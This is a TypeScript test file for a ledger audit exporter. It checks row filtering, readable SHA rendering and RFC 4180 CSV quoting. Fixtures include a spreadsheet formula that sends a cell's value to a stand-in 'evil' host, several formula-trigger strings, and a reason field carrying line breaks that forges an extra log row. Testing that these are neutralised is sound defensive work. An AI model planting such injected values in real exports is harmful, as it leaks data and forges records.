import { expect, test } from 'vitest'
import { auditCsv, auditedLines, auditRow, csvCell } from '../../src/ledger/audit.ts'
import { beforeFirst, type Line, makeLine } from '../../src/ledger/line.ts'
import { dispatched, fact, OUR_KEY, quarantine } from '../adapters/ledger/ledger-world.ts'

function ledger(): readonly Line[] {
  const facts = [
    fact(1),
    fact(2, { scope: { environment: 'staging', model: 'fraud' }, at: '2026-11-22T00:00:00Z' }),
    fact(3, {
      fact: { ...quarantine('1.1.0'), reason: '=HYPERLINK("http://evil/"&A1)' } as never,
      at: '2026-11-23T00:00:00Z',
    }),
    fact(4, { scope: 'budget', fact: dispatched(4, { gpu_seconds: 60 }) }),
  ]
  const lines: Line[] = []
  for (const one of facts) lines.push(makeLine(one, lines.at(-1) ?? { seq: 0, digest: beforeFirst(42) }, OUR_KEY))
  return lines
}

test('a question gets the lines that it asks for', () => {
  const seqs = (asked: Parameters<typeof auditedLines>[1]) => auditedLines(ledger(), asked).map(({ seq }) => seq)

  expect(seqs({})).toEqual([1, 2, 3, 4])
  expect(seqs({ model: 'churn' })).toEqual([1, 3, 4])
  expect(seqs({ environment: 'staging' })).toEqual([2])
  expect(seqs({ kind: 'dispatched' })).toEqual([4])
  expect(seqs({ since: '2026-11-22T00:00:00Z' })).toEqual([2, 3])
})

test('a row says what the line says, with SHAs one can read', () => {
  const line = makeLine(
    fact(1, {
      fact: { kind: 'verified', version: '1.0.0', digest: `sha256:${'a'.repeat(64)}`, commit: 'b'.repeat(40) },
    }),
    { seq: 8, digest: beforeFirst(42) },
    OUR_KEY,
  )

  expect(auditRow(line)).toEqual({
    seq: 9,
    at: '2026-11-21T10:00:00Z',
    kind: 'verified',
    scope: 'production/churn',
    actor_id: 7,
    says: 'commit bbbbbbbbbbbb, digest sha256:aaaaaaaaaaaa, version 1.0.0',
  })
})

test.each(['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '\t=1', '\r=1', '\n=1', '＝1', '\t1'])(
  'a cell %j runs nothing in a spreadsheet',
  (text) => {
    expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/)
  },
)

test('a CSV has a row a line, quoted as RFC 4180 says', () => {
  const rows = auditCsv(ledger()).split('\r\n')

  expect(rows).toHaveLength(6)
  expect(rows[0]).toBe('seq,at,kind,scope,actor_id,says,id,digest')
  expect(rows[3]).toMatch(
    /^3,2026-11-23T00:00:00Z,quarantined,production\/churn,7,"digest sha256:1\.1\.0, reason =HYPERLINK\(""http/,
  )
})

test('a reason with line breaks makes no rows of its own', () => {
  const forged = 'fine\r\n99  2026-11-21T10:00:00Z  verified\u2028x'
  const line = makeLine(
    fact(1, { fact: { ...quarantine('1.1.0'), reason: forged } as never }),
    { seq: 0, digest: beforeFirst(42) },
    OUR_KEY,
  )

  expect(auditRow(line).says).toContain('reason fine 99  2026-11-21T10:00:00Z  verified x')
  expect(
    auditCsv([line])
      .trimEnd()
      .split(/[\r\n]+/),
  ).toHaveLength(2)
})
